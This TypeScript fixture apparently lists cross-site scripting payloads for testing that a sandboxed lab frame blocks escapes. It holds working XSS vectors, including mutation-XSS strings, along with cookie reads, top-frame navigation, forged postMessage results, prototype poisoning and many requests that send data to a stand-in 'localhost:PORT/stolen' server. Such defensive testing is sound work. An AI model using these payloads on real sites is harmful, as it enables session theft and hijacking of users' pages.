/** Something that tries to get out of the frame of the lab on cross-site scripting. */
export interface Payload {
  /** What it tries. */
  readonly kind: string;
  /** What comes into the page raw. It may not contain a line break. */
  readonly review: string;
  /** Whether it tries to navigate, so that the policy around it is expected to say no. */
  readonly navigates?: true;
}

const run = (kind: string, code: string): Payload => ({
  kind,
  review: `<script>try{${code}}catch(e){leak(e.name)}</script>`,
});
const markup = (kind: string, review: string): Payload => ({ kind, review });
const going = (payload: Payload): Payload => ({ ...payload, navigates: true });

const SEND = `'http://localhost:'+PORT+'/stolen'`;
const address = 'http://localhost:PORT/stolen';

/** All of them; `PORT` stands for a server that must never hear of anybody. */
export const PAYLOADS: readonly Payload[] = [
  // Ways in.
  markup('script tag', '<script>leak(1)</script>'),
  markup('event handler of an image', '<img src=x onerror=leak(1)>'),
  markup('svg with onload', '<svg onload=leak(1)></svg>'),
  markup('svg animation', '<svg><animate onbegin=leak(1) attributeName=x dur=1s></svg>'),
  markup('details that open', '<details open ontoggle=leak(1)>x</details>'),
  markup(
    'mutation: style in mglyph',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=leak(1)>',
  ),
  markup('mutation: noscript', '<noscript><p title="</noscript><img src=x onerror=leak(1)>">'),
  markup(
    'mutation: template and comment',
    '<svg></p><style><a id="</style><img src=x onerror=leak(1)>">',
  ),
  markup('javascript: link', '<a href="javascript:leak(1)">x</a>'),

  // The guide and its window.
  run('read the document of the parent', 'leak(parent.document.title)'),
  run('read the document of the top', 'leak(top.document.cookie)'),
  run('write into the document of the top', `top.document.body.innerHTML='x'`),
  run('set a property of the parent', 'parent.canary=2'),
  run('set a property of the top', 'top.canary=2'),
  run('set a property of the opener', 'leak(String(opener));opener.canary=2'),
  run('read the frame element', 'leak(frameElement.id);frameElement.removeAttribute("sandbox")'),
  going(run('navigate the top', `top.location=${SEND}`)),
  going(run('navigate the parent', `parent.location=${SEND}`)),
  going(
    markup(
      'link to the top',
      `<a id=a target=_top href="${address}">x</a><script>a.click()</script>`,
    ),
  ),
  run('open a window', `leak(String(open(${SEND})))`),
  going(
    markup(
      'link to a new window',
      `<a id=a target=_blank href="${address}">x</a><script>a.click()</script>`,
    ),
  ),
  going(run('close the top', 'top.close()')),

  // Its own address.
  going(run('navigate itself', `location=${SEND}`)),
  going(run('navigate itself to the guide', `location='/'`)),
  going(
    run('navigate itself to data', `location='data:text/html,<script>parent.canary=2<'+'/script>'`),
  ),
  going(
    run(
      'navigate itself to a blob',
      `location=URL.createObjectURL(new Blob(['x'],{type:'text/html'}))`,
    ),
  ),
  going(markup('meta refresh', `<meta http-equiv=refresh content="0;url=${address}">`)),
  markup('base', `<base href="${address}/"><img src=x>`),
  run('history', `history.pushState({},'','?stolen');history.replaceState({},'','/stolen')`),
  run('write the document anew', `document.open();document.write('<p>new');document.close()`),

  // Requests.
  markup('image', `<img src="${address}">`),
  markup(
    'stylesheet and import',
    `<link rel=stylesheet href="${address}"><style>@import "${address}";</style>`,
  ),
  markup(
    'picture of a style',
    `<style>body{background:url(${address}?a)}#address{list-style:url(${address})}</style>`,
  ),
  markup(
    'font of a style',
    `<style>@font-face{font-family:x;src:url(${address})}p{font-family:x}</style><p>a</p>`,
  ),
  markup('script from outside', `<script src="${address}"></script>`),
  markup(
    'preload and prefetch',
    `<link rel=preload as=image href="${address}"><link rel=prefetch href="${address}"><link rel=modulepreload href="${address}">`,
  ),
  markup(
    'video, audio and track',
    `<video src="${address}"></video><audio src="${address}"></audio>`,
  ),
  markup(
    'WebRTC in a frame of its own',
    `<iframe srcdoc="<script>const p=new RTCPeerConnection({iceServers:[{urls:'stun:localhost:PORT'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>"></iframe>`,
  ),
  markup('frame', `<iframe src="${address}"></iframe>`),
  markup(
    'frame with srcdoc',
    '<iframe srcdoc="<script>parent.leak(1);top.canary=2</script>"></iframe>',
  ),
  markup('object and embed', `<object data="${address}"></object><embed src="${address}">`),
  going(
    markup(
      'form',
      `<form id=f method=post action="${address}"><input name=a></form><script>f.submit()</script>`,
    ),
  ),
  run('fetch', `fetch(${SEND}).catch(e=>leak(e.name))`),
  run('fetch of the guide', `fetch('/robots.txt').catch(e=>leak(e.name))`),
  run('XMLHttpRequest', `const x=new XMLHttpRequest();x.open('GET',${SEND});x.send()`),
  run('beacon', `leak(navigator.sendBeacon(${SEND},'x'))`),
  run('EventSource', `new EventSource(${SEND})`),
  run('WebSocket', `new WebSocket('ws://localhost:'+PORT+'/stolen')`),
  run('import()', `import(${SEND}).catch(e=>leak(e.name))`),
  run(
    'workers',
    `try{new Worker(URL.createObjectURL(new Blob(['fetch('+JSON.stringify(${SEND})+')'])))}catch(e){leak(e.name)};new SharedWorker('data:text/javascript,1')`,
  ),
  run(
    'service worker',
    `leak(String(navigator.serviceWorker));navigator.serviceWorker.register('/sw.js')`,
  ),

  run(
    'WebRTC',
    `const p=new RTCPeerConnection({iceServers:[{urls:'stun:localhost:'+PORT}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
  ),

  // Storage.
  run('localStorage', `localStorage.setItem('stolen','1')`),
  run('sessionStorage', `sessionStorage.setItem('stolen','1')`),
  run('cookie', `document.cookie='stolen=1; path=/'`),
  run('IndexedDB', `indexedDB.open('stolen')`),
  run('caches', `caches.open('stolen').catch(e=>leak(e.name))`),

  // The answer of the lab, and the reader.
  run(
    'forge the answer',
    `for(const to of [parent,top]){to.postMessage({secret:'1',said:{kind:'seen',seen:{}}},'*');to.postMessage({kind:'shown',outcome:{ran:['forged'],blocked:[],errors:[]}},'*');to.postMessage('open','*',[new MessageChannel().port1])}`,
  ),
  run(
    'poison prototypes',
    `Object.prototype.ran=['forged'];Array.prototype.map=()=>['forged'];JSON.stringify=()=>'forged';MessagePort.prototype.postMessage=()=>{};window.postMessage=()=>{}`,
  ),
  run(
    'dialogs, full screen, pointer and clipboard',
    `leak(String(confirm('x')));leak(String(prompt('x')));document.documentElement.requestFullscreen?.().catch(e=>leak(e.name));document.body?.requestPointerLock?.();navigator.clipboard?.writeText('stolen').catch(e=>leak(e.name))`,
  ),
];
